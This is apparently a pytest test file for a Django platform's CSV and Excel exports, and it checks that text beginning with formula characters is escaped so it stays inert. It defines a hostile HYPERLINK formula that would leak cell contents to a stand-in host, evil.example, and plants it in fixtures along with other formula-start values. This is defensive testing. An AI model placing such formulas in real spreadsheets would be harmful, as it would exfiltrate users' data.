"""Every CSV and Excel file the platform writes keeps text from becoming a formula: cells
starting with =, +, -, @, tab or carriage return are marked as text, numbers stay numbers,
and no module writes such a file except through the one shared writer."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from omradeloft.core.tabular import FORMULA_STARTS, csv_rows, csv_text, restore, xlsx_bytes
from omradeloft.indicators.catalogue import export_catalogue, import_catalogue
from omradeloft.indicators.importing.files import open_observation_file
from omradeloft.indicators.importing.service import import_observations
from omradeloft.indicators.models import Indicator
from omradeloft.programmes.models import Decision, Meeting
from tests.factories import make_area, make_organisation
from tests.indicators.factories import make_indicator, write_csv
from tests.measures.factories import target
from tests.programmes.factories import make_body, make_measure
from tests.source import modules_matching

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk")'


def dangerous(cell: object) -> bool:
    """Text a spreadsheet would evaluate; a number written as text (-0.5) is a number."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_is_marked_as_text(start):
    cells = csv_cells(csv_text(["a"], [[f"{start}1+1"]]).encode())
    assert cells == ["a", f"'{start}1+1"]


def test_numbers_stay_numbers_and_ordinary_text_is_unchanged():
    text = csv_text(["x", "y", "z"], [[-3.5, 0, "Grorud – 5 %"], [None, True, "a=b"]])
    assert text.splitlines() == ["x,y,z", "-3.5,0,Grorud – 5 %", ",True,a=b"]


def test_a_marked_cell_reads_back_as_the_text_that_was_written():
    _, rows = csv_rows(csv_text(["name"], [[HOSTILE], ["'ordinary"]]))
    assert [row["name"] for _, row in rows] == [HOSTILE, "'ordinary"]
    assert restore("'@x") == "@x"


def test_excel_cells_are_never_formulas():
    workbook = load_workbook(io.BytesIO(xlsx_bytes("ark", ["a", "b"], [[HOSTILE, -2]])))
    sheet = workbook.active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'" + HOSTILE
    assert sheet["B2"].value == -2


def test_no_module_writes_csv_or_excel_except_the_shared_writer():
    writers = r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\("
    assert modules_matching(writers, except_in="tabular.py") == []


@pytest.fixture
def hostile_programme(personas):
    target(personas.programme, personas.municipality)
    owner = make_organisation(name="+Eier")
    measure = make_measure(
        personas.programme,
        areas=[personas.s11],
        owner=owner,
        title=HOSTILE,
        title_en="@SUM(1+1)",
        is_published=True,
    )
    body = make_body(personas.programme, name="-Styret")
    meeting = Meeting.objects.create(body=body, date=datetime.date(2024, 5, 1))
    decision = Decision.objects.create(meeting=meeting, number="=1", text=HOSTILE)
    decision.measures.set([measure])
    return personas


def test_the_public_measures_csv_is_inert(client, hostile_programme):
    url = reverse("measures:list", args=[hostile_programme.programme.code])
    response = client.get(url, {"format": "csv"})
    cells = csv_cells(response.content)
    assert "'" + HOSTILE in cells
    assert not any(dangerous(cell) for cell in cells)


def test_the_decisions_csv_is_inert(client, hostile_programme):
    client.force_login(hostile_programme.programme_admin)
    url = reverse("programmes:decisions", args=[hostile_programme.programme.code])
    cells = csv_cells(client.get(url, {"format": "csv"}).content)
    assert "'" + HOSTILE in cells
    assert not any(dangerous(cell) for cell in cells)


@pytest.fixture
def hostile_statistics(personas, tmp_path):
    make_area("0999010102", "subdistrict", name=HOSTILE, parent=personas.d1)
    make_indicator("not_employed", name="-Ikke sysselsatt")
    rows = ["not_employed,0999010101,2024,,20,100", "not_employed,0999010102,2024,,30,100"]
    chunks, info = open_observation_file(write_csv(tmp_path / "a.csv", rows))
    import_observations(chunks, info, actor=None)
    return personas


def test_the_indicator_downloads_are_inert_in_csv_and_excel(client, hostile_statistics):
    query = {"level": "subdistrict", "period": "2024"}
    url = reverse("indicators:download", args=["not_employed", "csv"])
    cells = csv_cells(client.get(url, query).content)
    assert "'" + HOSTILE in cells
    assert not any(dangerous(cell) for cell in cells)
    url = reverse("indicators:download", args=["not_employed", "xlsx"])
    body = client.get(url, query).content
    sheet = load_workbook(io.BytesIO(body)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" or dangerous(cell.value) for cell in values)
    assert "'" + HOSTILE in [cell.value for cell in values]


def test_the_catalogue_export_is_inert_and_imports_back_unchanged(hostile_statistics):
    exported = export_catalogue("csv")
    assert not any(dangerous(cell) for cell in csv_cells(exported.encode()))
    import_catalogue(exported, "csv", actor=None)
    assert Indicator.objects.get(code="not_employed").name == "-Ikke sysselsatt"


def test_the_index_export_command_is_inert(hostile_statistics, tmp_path):
    spec = tmp_path / "spec.json"
    spec.write_text(
        '{"code": "idx", "name": "=Indeks", "level": "subdistrict", "method": "zscore",'
        ' "components": [{"indicator": "not_employed", "weight": 1}]}'
    )
    call_command("import_index", str(spec))
    call_command("compute_index", "idx")
    out = tmp_path / "out.csv"
    call_command("export_index", "idx", "--period", "2024", "--output", str(out))
    cells = csv_cells(out.read_bytes())
    assert cells[:2] == ["area", "period"]
    assert not any(dangerous(cell) for cell in cells)
